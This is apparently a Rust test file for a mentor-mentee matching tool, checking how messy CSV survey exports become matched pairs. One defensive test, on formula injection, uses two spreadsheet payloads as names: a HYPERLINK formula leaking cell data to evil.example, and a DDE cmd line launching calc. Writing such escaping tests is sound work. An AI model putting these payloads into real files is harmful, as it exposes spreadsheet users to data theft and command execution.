//! Files like those that people really have, all the way from bytes to pairs.

use crate::{Config, Source, guess, people, raw};
use matching::{Objective, Options, solve, verify};
use std::ops::ControlFlow;

macro_rules! case {
    ($path:literal) => {
        include_bytes!(concat!("../../people-tables/cases/", $path)).as_slice()
    };
}

fn go(_: u64, _: u64) -> ControlFlow<()> {
    ControlFlow::Continue(())
}

/// What came out: pairs (mentee, mentor), the file, and everything that was said.
struct Matched {
    pairs: Vec<(String, String)>,
    file: String,
    said: String,
}

fn matched(mentees: &[u8], mentors: &[u8]) -> Matched {
    let people = people::read(Source::new("mentees.csv", mentees), Source::new("mentors.csv", mentors)).unwrap();
    let guess = guess(&people).unwrap();
    let saved = Config::parse("match.toml", guess.text.as_bytes()).unwrap();
    assert_eq!(saved.criteria, guess.config.criteria, "a saved guess is the same: {}", guess.text);
    let prepared = people.prepare(&guess.config, None).unwrap();
    let problem = prepared.score(2, &mut go).unwrap();
    let solution = solve(&problem, Objective::Coverage, Options::default());
    assert!(verify(&problem, &solution).unwrap().optimal);
    let file = String::from_utf8(prepared.pairs_csv(&solution)).unwrap();
    let said = [people.notes(), guess.notes.clone(), prepared.notes().to_vec()].concat().join("\n");
    let said = if prepared.are_all_alike(&problem) { format!("{said}\nall alike") } else { said };
    Matched { pairs: pairs(&file), file, said }
}

/// Mentee and mentor of each line, by what tells them apart.
fn pairs(file: &str) -> Vec<(String, String)> {
    let mut reader = csv::ReaderBuilder::new().from_reader(file.as_bytes());
    let header = reader.headers().unwrap().clone();
    let column = |name| header.iter().position(|header| header == name).unwrap();
    let (mentee, mentor) = (column("mentee"), column("mentor"));
    reader.records().map(Result::unwrap).map(|record| (record[mentee].to_owned(), record[mentor].to_owned())).collect()
}

fn with(matched: &Matched, mentor: &str) -> usize {
    matched.pairs.iter().filter(|(_, other)| other == mentor).count()
}

#[test]
fn case_02_capacity_as_a_question() {
    for (mentors, question) in [
        (case!("02-capacity-as-a-question/mentors.csv"), "How many mentees would you be willing to mentor?"),
        (case!("02-capacity-as-a-question/mentors-b.csv"), "How many mentees would you like to mentor this cohort?"),
    ] {
        let matched = matched(case!("02-capacity-as-a-question/mentees.csv"), mentors);
        assert_eq!(
            (matched.pairs.len(), with(&matched, "x1@example.org"), with(&matched, "x2@example.org")),
            (4, 3, 1),
            "{}",
            matched.file
        );
        let line = format!("mentors.csv: {question:?} is read as how many mentees a mentor takes");
        assert!(matched.said.contains(&line), "{}", matched.said);
    }
}

#[test]
fn case_04_further_header_rows() {
    let matched = matched(case!("04-qualtrics-three-headers/mentees.csv"), case!("04-qualtrics-three-headers/mentors.csv"));
    assert_eq!(matched.pairs.len(), 2, "{}", matched.file);
    assert_eq!(matched.pairs[1], ("m2@example.org".to_owned(), "x2@example.org".to_owned()));
    assert!(matched.said.contains("mentees.csv: no person but a further header or a title: line 2, 3"), "{}", matched.said);
}

#[test]
fn case_05_sentences_as_headers_and_rows_of_nobody() {
    let one = matched(case!("05-sentence-headers-blank-rows/mentees.csv"), case!("05-sentence-headers-blank-rows/mentors.csv"));
    let two = matched(case!("05-sentence-headers-blank-rows/mentees-b.csv"), case!("05-sentence-headers-blank-rows/mentors-b.csv"));
    for matched in [&one, &two] {
        assert_eq!(matched.pairs.len(), 3, "{}", matched.file);
        assert!(matched.pairs.iter().all(|(mentee, mentor)| mentee.contains('@') && mentor.contains('@')), "{}", matched.file);
        assert!(matched.said.contains("say nothing about anybody"), "{}", matched.said);
        assert!(matched.said.lines().count() < 6, "{}", matched.said);
    }
    assert!(one.file.contains("Alma Testfall") && one.file.contains("Dora Beispiel"), "{}", one.file);
    let reverse = two.pairs.iter().find(|(mentee, _)| mentee == "m2@example.org");
    assert_eq!(reverse.map(|(_, mentor)| mentor.as_str()), Some("x2@example.org"), "{}", two.file);
}

#[test]
fn case_06_no_answer_is_none() {
    let matched = matched(case!("06-na-is-no-answer/mentees.csv"), case!("06-na-is-no-answer/mentors.csv"));
    assert_eq!(matched.pairs.len(), 4, "{}", matched.file);
    let folded = matched.file.to_lowercase();
    for word in ["n/a", "none", "nan", "#n/a", ": -", "both -"] {
        assert!(!folded.contains(word), "{word} in {}", matched.file);
    }
    let bruno = matched.pairs.iter().find(|(mentee, _)| mentee == "m2@example.org").unwrap();
    assert!(["x3@example.org", "x4@example.org"].contains(&bruno.1.as_str()), "{}", matched.file);
}

#[test]
fn case_07_managers_in_any_spelling() {
    for (mentees, people) in [(case!("07-manager-three-spellings/mentees.csv"), 4), (case!("07-manager-three-spellings/mentees-b.csv"), 2)]
    {
        let matched = matched(mentees, case!("07-manager-three-spellings/mentors.csv"));
        assert_eq!((matched.pairs.len(), with(&matched, "dora.beispiel@example.org")), (people, 0), "{}", matched.file);
    }
    let strange = b"Email,Name,Skills wanted,Line manager\nm1@example.org,Alma Testfall,Python,\"Fremd, Gero\"\n";
    let matched = matched(strange, case!("07-manager-three-spellings/mentors.csv"));
    assert!(matched.said.contains("\"Line manager\" and is not among the mentors, however written: \"Fremd, Gero\""), "{}", matched.said);
}

#[test]
fn case_08_everybody_alike() {
    let matched = matched(case!("08-everybody-alike/mentees.csv"), case!("08-everybody-alike/mentors.csv"));
    assert_eq!(matched.pairs.len(), 3, "{}", matched.file);
    assert_eq!((with(&matched, "x1@example.org"), with(&matched, "x2@example.org"), with(&matched, "x3@example.org")), (2, 0, 1));
    assert!(matched.said.contains("nothing in the files tells people apart") && matched.said.ends_with("all alike"), "{}", matched.said);

    let scores = Source::new("scores.csv", case!("08-everybody-alike/scores-b.csv"));
    let capacities = Source::new("capacities.csv", case!("08-everybody-alike/capacities-b.csv"));
    let raw = raw::read(scores, Some(capacities), &mut go).and_then(|read| read.into_problem(scores)).unwrap();
    let solution = solve(&raw.problem, Objective::Coverage, Options::default());
    assert_eq!(raw.pairs_csv(&solution), b"mentee,mentor,score\na,x,0\n");
}

#[test]
fn case_12_nothing_that_is_written_is_a_formula() {
    let (mentees, mentors) = (case!("12-formula-as-id/mentees.csv"), case!("12-formula-as-id/mentors.csv"));
    let matched = matched(mentees, mentors);
    assert_eq!(matched.pairs.len(), 2);
    let mut names = Vec::new();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(matched.file.as_bytes());
    for record in reader.records().map(Result::unwrap) {
        assert!(record.iter().all(|field| !field.starts_with(['=', '+', '-', '@'])), "{}", matched.file);
        names.extend(record.iter().take(2).map(str::to_owned));
    }
    // Read back, the names are those of the files.
    let text = spreadsheet::Text::decode("pairs.csv", matched.file.as_bytes()).unwrap();
    let mut sheet = spreadsheet::Sheet::open("pairs.csv", &text).unwrap();
    let mut read = Vec::new();
    while let Some(row) = sheet.next_row().unwrap() {
        read.extend([row.get(0).to_owned(), row.get(1).to_owned()]);
    }
    for name in ["=HYPERLINK(\"http://evil.example/?\"&B2,\"Alma\")", "@SUM(1+1)*cmd|' /C calc'!A0"] {
        assert!(read.iter().any(|other| other == name), "{name} in {read:?}");
        assert!(names.iter().any(|other| *other == format!("'{name}")), "{name} in {names:?}");
    }
}

#[test]
fn what_does_not_tell_people_apart_is_passed_over() {
    let mentees = b"ID,Email,Name,Skills wanted\n1,office@x.org,Ada,Rust\n1,office@x.org,Bo,Go\n,office@x.org,Cy,Rust\n";
    let mentors = b"Email,Name,Skills offered,Places\nd@x.org,Di,Rust,2\ne@x.org,Ed,Go,1\n";
    let matched = matched(mentees, mentors);
    let mentees: Vec<&str> = matched.pairs.iter().map(|(mentee, _)| mentee.as_str()).collect();
    assert_eq!(mentees, ["Ada", "Bo", "Cy"], "{}", matched.file);
    assert!(matched.said.contains("mentees.csv: \"ID\" doesn't tell people apart (the lines 2 and 3 say the same)"), "{}", matched.said);
    assert!(
        matched.said.contains("\"Email\" doesn't tell people apart (the lines 2 and 3 say the same); \"Name\" does"),
        "{}",
        matched.said
    );
}

#[test]
fn somebody_twice_is_still_told() {
    let mentees = b"Email,Name,Skills wanted\na@x.org,Ada,Rust\nA@x.org,Ada,Go\n";
    let people =
        people::read(Source::new("mentees.csv", mentees), Source::new("mentors.csv", b"Email,Skills offered\nd@x.org,Rust\n")).unwrap();
    let guess = guess(&people).unwrap();
    let problem = people.prepare(&guess.config, None).unwrap_err();
    assert_eq!(problem.to_string(), "mentees.csv, line 3: Email A@x.org is here twice; first on line 2");
}

#[test]
fn lists_with_any_separator_and_remarks() {
    let mentees = "Email,Skills wanted\na@x.org,\"Python (beginner)\nSQL\"\nb@x.org,• Writing • Law\n";
    let mentors = "Email,Skills offered,Places\nd@x.org,Python – expert; SQL,1\ne@x.org,Writing | Law (public),1\n";
    let matched = matched(mentees.as_bytes(), mentors.as_bytes());
    assert!(matched.file.contains("a@x.org,d@x.org,100.00"), "{}", matched.file);
    assert!(matched.file.contains("b@x.org,e@x.org,100.00"), "{}", matched.file);
}
